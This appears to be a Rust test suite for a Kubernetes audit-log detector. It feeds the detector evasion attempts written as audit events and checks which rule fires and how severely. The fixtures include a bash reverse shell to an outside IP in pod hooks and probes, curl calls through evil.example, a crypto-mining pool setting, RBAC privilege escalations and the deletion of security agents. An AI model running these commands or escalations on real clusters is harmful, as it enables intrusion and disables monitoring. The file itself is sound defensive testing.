//! Ways around these very rules that somebody has tried, each as one event and the rule that tells it now with how severe
//! it is at least. The events are our own.

use airside_types::Severity;

use super::detections;

const CSR_OF_ADMINS: &str = "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KYTNWaVpXRmtiVHBqYkhWemRHVnlMV0ZrYldsdWN3PT0KLS0tLS1FTkQgQ0VSVElGSUNBVEUgUkVRVUVTVC0tLS0tCg==";

/// What is done, the rule that says so, how severe it is at least, what the event has beside `"responseStatus":{"code":200}`.
const TOLD: &[(&str, &str, Severity, &str)] = &[
    (
        "a token that is only tried out is a token",
        "AUD-R21",
        Severity::High,
        r#""verb":"create","requestURI":"/x?dryRun=All","user":{"username":"dana"},"objectRef":{"resource":"serviceaccounts","subresource":"token","namespace":"kube-system","name":"a"}"#,
    ),
    (
        "so is a review",
        "AUD-R09",
        Severity::Low,
        r#""verb":"create","requestURI":"/x?dryRun=All","user":{"username":"system:serviceaccount:shop:web"},"userAgent":"kubectl/v1.33.1","objectRef":{"resource":"selfsubjectrulesreviews","apiGroup":"authorization.k8s.io"}"#,
    ),
    (
        "of a deletion with options in its body the query is not read",
        "AUD-R54-change",
        Severity::Medium,
        r#""verb":"delete","level":"Request","requestURI":"/x?dryRun=All","user":{"username":"dana"},"objectRef":{"resource":"validatingwebhookconfigurations","apiGroup":"admissionregistration.k8s.io","name":"v"},"requestObject":{"kind":"DeleteOptions","apiVersion":"v1"}"#,
    ),
    (
        "and where no bodies are logged nobody knows whether there was one",
        "AUD-R54-change",
        Severity::Medium,
        r#""verb":"delete","level":"Metadata","requestURI":"/x?dryRun=All","user":{"username":"dana"},"objectRef":{"resource":"validatingwebhookconfigurations","apiGroup":"admissionregistration.k8s.io","name":"v"}"#,
    ),
    (
        "the last element of a list",
        "AUD-R38",
        Severity::High,
        r#""verb":"patch","user":{"username":"dana"},"objectRef":{"resource":"deployments","apiGroup":"apps","namespace":"shop","name":"d"},"requestObject":[{"op":"add","path":"/spec/template/spec/containers/-1/securityContext","value":{"privileged":true}}]"#,
    ),
    (
        "an index with a sign",
        "AUD-R61",
        Severity::High,
        r#""verb":"patch","user":{"username":"dana"},"objectRef":{"resource":"clusterroles","apiGroup":"rbac.authorization.k8s.io","name":"r"},"requestObject":[{"op":"add","path":"/rules/+0","value":{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}}]"#,
    ),
    (
        "a namespace's labels written with its status",
        "AUD-R57",
        Severity::Medium,
        r#""verb":"patch","user":{"username":"dana"},"objectRef":{"resource":"namespaces","subresource":"status","namespace":"shop","name":"shop"},"requestObject":{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}"#,
    ),
    (
        "all labels emptied",
        "AUD-R57",
        Severity::Medium,
        r#""verb":"patch","user":{"username":"dana"},"objectRef":{"resource":"namespaces","namespace":"shop","name":"shop"},"requestObject":[{"op":"replace","path":"/metadata/labels","value":{}}]"#,
    ),
    (
        "a namespace that Gatekeeper passes over",
        "AUD-R57",
        Severity::Medium,
        r#""verb":"patch","user":{"username":"dana"},"objectRef":{"resource":"namespaces","namespace":"shop","name":"shop"},"requestObject":{"metadata":{"labels":{"admission.gatekeeper.sh/ignore":"x"}}}"#,
    ),
    (
        "a controller's token that writes a component's role",
        "AUD-R65",
        Severity::High,
        r#""verb":"patch","user":{"username":"system:serviceaccount:kube-system:clusterrole-aggregation-controller","groups":["system:serviceaccounts","system:serviceaccounts:kube-system","system:authenticated"]},"objectRef":{"resource":"clusterroles","apiGroup":"rbac.authorization.k8s.io","name":"system:basic-user"},"requestObject":{"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}"#,
    ),
    (
        "or one that gathers nothing",
        "AUD-R61",
        Severity::High,
        r#""verb":"patch","user":{"username":"system:serviceaccount:kube-system:clusterrole-aggregation-controller","groups":["system:serviceaccounts","system:serviceaccounts:kube-system","system:authenticated"]},"objectRef":{"resource":"clusterroles","apiGroup":"rbac.authorization.k8s.io","name":"web"},"requestObject":{"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]},"responseObject":{"kind":"ClusterRole","rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}"#,
    ),
    (
        "administrators of kubeadm in a certificate",
        "AUD-R23",
        Severity::High,
        r#""verb":"create","user":{"username":"dana"},"objectRef":{"resource":"certificatesigningrequests","apiGroup":"certificates.k8s.io","name":"d"},"requestObject":{"spec":{"signerName":"kubernetes.io/kube-apiserver-client","usages":["client auth"],"request":"CSR"}}"#,
    ),
    (
        "a certificate request that only the API server can read",
        "AUD-R22",
        Severity::Medium,
        r#""verb":"create","user":{"username":"dana"},"objectRef":{"resource":"certificatesigningrequests","apiGroup":"certificates.k8s.io","name":"d"},"requestObject":{"spec":{"signerName":"kubernetes.io/kube-apiserver-client","usages":["client auth"],"request":"%%%%"}}"#,
    ),
    (
        "a subject added to the administrators' binding, without the answer",
        "AUD-R59",
        Severity::High,
        r#""verb":"patch","user":{"username":"dana"},"objectRef":{"resource":"clusterrolebindings","apiGroup":"rbac.authorization.k8s.io","name":"kubeadm:cluster-admins"},"requestObject":[{"op":"add","path":"/subjects/-","value":{"kind":"User","name":"m"}}]"#,
    ),
    (
        "a controller's role for a person",
        "AUD-R59-component",
        Severity::High,
        r#""verb":"create","user":{"username":"dana"},"objectRef":{"resource":"clusterrolebindings","apiGroup":"rbac.authorization.k8s.io","name":"b"},"requestObject":{"roleRef":{"kind":"ClusterRole","name":"system:kube-controller-manager"},"subjects":[{"kind":"User","name":"m"}]}"#,
    ),
    (
        "admin in the cluster's own namespace",
        "AUD-R59-component",
        Severity::Medium,
        r#""verb":"create","user":{"username":"dana"},"objectRef":{"resource":"rolebindings","apiGroup":"rbac.authorization.k8s.io","namespace":"kube-system","name":"b"},"requestObject":{"roleRef":{"kind":"ClusterRole","name":"admin"},"subjects":[{"kind":"ServiceAccount","namespace":"shop","name":"web"}]}"#,
    ),
    (
        "a service account that is written as a user",
        "AUD-R60-cluster",
        Severity::Low,
        r#""verb":"create","user":{"username":"dana"},"objectRef":{"resource":"clusterrolebindings","apiGroup":"rbac.authorization.k8s.io","name":"b"},"requestObject":{"roleRef":{"kind":"ClusterRole","name":"r"},"subjects":[{"kind":"User","name":"system:serviceaccount:shop:web"}]}"#,
    ),
    (
        "everybody behind those who are known",
        "AUD-R03",
        Severity::Critical,
        r#""verb":"create","user":{"username":"dana"},"objectRef":{"resource":"clusterrolebindings","apiGroup":"rbac.authorization.k8s.io","name":"b"},"requestObject":{"roleRef":{"kind":"ClusterRole","name":"view"},"subjects":[{"kind":"Group","name":"system:authenticated"},{"kind":"Group","name":"system:unauthenticated"}]}"#,
    ),
    (
        "the definition of all policies deleted",
        "AUD-R57-guard",
        Severity::High,
        r#""verb":"delete","user":{"username":"dana"},"objectRef":{"resource":"customresourcedefinitions","apiGroup":"apiextensions.k8s.io","name":"clusterpolicies.kyverno.io"}"#,
    ),
    (
        "the agent deleted with a service account's token",
        "AUD-R57-guard",
        Severity::Medium,
        r#""verb":"delete","user":{"username":"system:serviceaccount:shop:web"},"userAgent":"curl/8.5.0","objectRef":{"resource":"daemonsets","apiGroup":"apps","namespace":"kube-system","name":"tetragon"}"#,
    ),
    (
        "what the agent looks for deleted",
        "AUD-R57-guard",
        Severity::Medium,
        r#""verb":"delete","user":{"username":"dana"},"objectRef":{"resource":"tracingpolicies","apiGroup":"cilium.io","name":"t"}"#,
    ),
    (
        "all secrets, with the label's name where nobody reads it",
        "AUD-R12",
        Severity::High,
        r#""verb":"list","requestURI":"/api/v1/secrets?owner=helm","user":{"username":"dana"},"userAgent":"kubectl/v1.33.1","objectRef":{"resource":"secrets"}"#,
    ),
    (
        "all secrets but Helm's",
        "AUD-R12",
        Severity::High,
        r#""verb":"list","requestURI":"/api/v1/secrets?labelSelector=owner%21%3Dhelm","user":{"username":"dana"},"userAgent":"kubectl/v1.33.1","objectRef":{"resource":"secrets"}"#,
    ),
    (
        "the administrators' group of kubeadm impersonated",
        "AUD-R69",
        Severity::High,
        r#""verb":"list","user":{"username":"dana"},"impersonatedUser":{"username":"x","groups":["kubeadm:cluster-admins"]},"objectRef":{"resource":"secrets"}"#,
    ),
    (
        "a person impersonated with a service account's token",
        "AUD-R69-other",
        Severity::Medium,
        r#""verb":"list","user":{"username":"system:serviceaccount:shop:web"},"userAgent":"curl/8.5.0","impersonatedUser":{"username":"erin"},"objectRef":{"resource":"pods","namespace":"shop"}"#,
    ),
    (
        "a reverse shell in a hook",
        "AUD-R95",
        Severity::High,
        r#""verb":"create","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"p"},"requestObject":{"spec":{"containers":[{"name":"a","image":"a","lifecycle":{"postStart":{"exec":{"command":["bash","-c","bash -i >& /dev/tcp/203.0.113.9/443 0>&1"]}}}}]}}"#,
    ),
    (
        "the same in a probe",
        "AUD-R95",
        Severity::High,
        r#""verb":"create","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"p"},"requestObject":{"spec":{"containers":[{"name":"a","image":"a","readinessProbe":{"exec":{"command":["bash","-c","bash -i >& /dev/tcp/203.0.113.9/443 0>&1"]}}}]}}"#,
    ),
    (
        "a node that gets a token that is bound to nothing",
        "AUD-R20",
        Severity::Medium,
        r#""verb":"create","user":{"username":"system:node:n1","groups":["system:nodes","system:authenticated"]},"userAgent":"kubelet/v1.36.2","objectRef":{"resource":"serviceaccounts","subresource":"token","namespace":"shop","name":"web"},"requestObject":{"spec":{"expirationSeconds":31536000}}"#,
    ),
    (
        "a webhook turned to another server by a program",
        "AUD-R54-change",
        Severity::Medium,
        r#""verb":"patch","user":{"username":"system:serviceaccount:shop:web"},"userAgent":"web/1.0","objectRef":{"resource":"mutatingwebhookconfigurations","apiGroup":"admissionregistration.k8s.io","name":"m"},"requestObject":[{"op":"replace","path":"/webhooks/0/clientConfig/service","value":{"namespace":"shop","name":"web"}}]"#,
    ),
    (
        "all hooks taken out of a webhook's configuration",
        "AUD-R54-change",
        Severity::Medium,
        r#""verb":"update","user":{"username":"dana"},"objectRef":{"resource":"validatingwebhookconfigurations","apiGroup":"admissionregistration.k8s.io","name":"v"},"requestObject":{"webhooks":[]}"#,
    ),
    (
        "a download through a proxy, for itself by its address",
        "AUD-R29",
        Severity::Medium,
        r#""verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web/exec?command=curl&command=-x&command=evil.example%3A8080&command=http%3A%2F%2Flocalhost%2Ft","user":{"username":"dana"},"objectRef":{"resource":"pods","subresource":"exec","namespace":"shop","name":"web"}"#,
    ),
    (
        "or from a host that begins like it",
        "AUD-R29",
        Severity::Medium,
        r#""verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web/exec?command=curl&command=http%3A%2F%2Flocalhost%3A80%40evil.example%2Ft","user":{"username":"dana"},"objectRef":{"resource":"pods","subresource":"exec","namespace":"shop","name":"web"}"#,
    ),
    (
        "another authority for the pods of a namespace",
        "AUD-R71-trust",
        Severity::High,
        r#""verb":"update","user":{"username":"dana"},"objectRef":{"resource":"configmaps","namespace":"shop","name":"kube-root-ca.crt"}"#,
    ),
    (
        "a miner that its environment tells what to mine",
        "AUD-R82",
        Severity::Medium,
        r#""verb":"create","user":{"username":"dana"},"objectRef":{"resource":"pods","namespace":"shop","name":"p"},"requestObject":{"spec":{"containers":[{"name":"a","image":"a","env":[{"name":"A","value":"b"},{"name":"POOL","value":"stratum+tcp://pool.example.net:3333"}]}]}}"#,
    ),
    (
        "a guard scaled to nothing by what is left out",
        "AUD-R81",
        Severity::Low,
        r#""verb":"update","user":{"username":"dana"},"userAgent":"kubectl/v1.33.1","objectRef":{"resource":"deployments","subresource":"scale","apiGroup":"apps","namespace":"shop","name":"web"},"requestObject":{"kind":"Scale","apiVersion":"autoscaling/v1","metadata":{"name":"web"},"spec":{}}"#,
    ),
    (
        "all of a kind of workload deleted at once",
        "AUD-R80",
        Severity::Low,
        r#""verb":"deletecollection","user":{"username":"dana"},"objectRef":{"resource":"daemonsets","apiGroup":"apps","namespace":"shop"}"#,
    ),
    (
        "a kubelet entered by a path with escapes",
        "AUD-R36",
        Severity::High,
        r#""verb":"create","requestURI":"/api/v1/%6eodes/n1/%70roxy/run/shop/web/c?cmd=id","user":{"username":"dana"},"objectRef":{"resource":"nodes","subresource":"proxy","name":"n1"}"#,
    ),
    (
        "a namespace out of Gatekeeper's sight, with a level that looks well",
        "AUD-R57",
        Severity::Medium,
        r#""verb":"patch","user":{"username":"dana"},"objectRef":{"resource":"namespaces","namespace":"shop","name":"shop"},"requestObject":{"metadata":{"labels":{"admission.gatekeeper.sh/ignore":"x","pod-security.kubernetes.io/enforce":"restricted"}}}"#,
    ),
    (
        "all definitions deleted at once",
        "AUD-R57-guard",
        Severity::High,
        r#""verb":"deletecollection","user":{"username":"dana"},"objectRef":{"resource":"customresourcedefinitions","apiGroup":"apiextensions.k8s.io"}"#,
    ),
    (
        "all agents of a guard's namespace",
        "AUD-R57-guard",
        Severity::Medium,
        r#""verb":"deletecollection","user":{"username":"dana"},"objectRef":{"resource":"daemonsets","apiGroup":"apps","namespace":"falco"}"#,
    ),
    (
        "everything of a platform's own group",
        "AUD-R61",
        Severity::High,
        r#""verb":"create","user":{"username":"dana"},"objectRef":{"resource":"clusterroles","apiGroup":"rbac.authorization.k8s.io","name":"r"},"requestObject":{"rules":[{"apiGroups":["security.openshift.io"],"resources":["*"],"verbs":["*"]}]}"#,
    ),
    (
        "the administrators' binding written, without its body",
        "AUD-R59",
        Severity::High,
        r#""verb":"update","level":"Metadata","user":{"username":"dana"},"objectRef":{"resource":"clusterrolebindings","apiGroup":"rbac.authorization.k8s.io","name":"kubeadm:cluster-admins"}"#,
    ),
    (
        "a kubelet entered on a node whose name misleads",
        "AUD-R36",
        Severity::High,
        r#""verb":"create","requestURI":"/api/v1/nodes/proxy-1/proxy/exec/shop/web/c?command=id","user":{"username":"dana"},"objectRef":{"resource":"nodes","subresource":"proxy","name":"proxy-1"}"#,
    ),
];

#[test]
fn each_is_told_by_the_rule_that_names_it_and_as_severely() {
    for (what, rule, least, event) in TOLD {
        let event = event.replace("\"CSR\"", &format!("\"{CSR_OF_ADMINS}\""));
        let told = detections(&format!(r#"{{{event},"responseStatus":{{"code":200}}}}"#));
        let found = told.iter().find(|it| it.rule == *rule);
        let found = found.unwrap_or_else(|| panic!("{what}: {rule} is not among {told:#?}"));
        assert!(found.severity >= *least, "{what}: {:?} {}", found.severity, found.message);
    }
}

#[test]
fn what_is_really_only_tried_out_is_not_told() {
    for event in [
        r#""verb":"create","requestURI":"/x?dryRun=All","objectRef":{"resource":"clusterrolebindings","apiGroup":"rbac.authorization.k8s.io","name":"b"},"requestObject":{"roleRef":{"kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"kind":"User","name":"m"}]}"#,
        r#""verb":"delete","level":"Request","requestURI":"/x?dryRun=All","objectRef":{"resource":"namespaces","namespace":"shop","name":"shop"}"#,
        r#""verb":"delete","level":"Request","objectRef":{"resource":"namespaces","namespace":"shop","name":"shop"},"requestObject":{"kind":"DeleteOptions","dryRun":["All"]}"#,
    ] {
        let event =
            format!(r#"{{{event},"user":{{"username":"dana"}},"responseStatus":{{"code":200}}}}"#);
        assert_eq!(detections(&event), [], "{event}");
    }
}
